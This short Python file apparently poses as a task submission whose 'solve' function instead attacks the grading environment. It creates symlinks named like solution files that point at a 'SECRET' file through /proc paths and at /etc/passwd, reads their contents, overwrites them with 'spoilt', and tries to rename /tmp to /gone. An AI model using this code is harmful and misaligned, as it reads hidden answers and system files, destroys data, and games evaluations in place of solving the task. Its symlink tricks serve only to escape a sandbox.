"""Puts links to the outside where somebody may follow them."""

import os


def linked():
    for number, target in enumerate(("SECRET", "/proc/1/root/SECRET", "/proc/self/cwd/../SECRET", "/etc/passwd")):
        try:
            os.symlink(target, f"solution{number}.py")
            with open(f"solution{number}.py", "r+") as file:
                text = file.read()
                file.write("spoilt")
                return text
        except OSError:
            pass
    try:
        os.rename("/tmp", "/gone")
    except OSError:
        pass
    return None


def solve(n):
    return linked()


if __name__ == "__main__":
    print(linked())
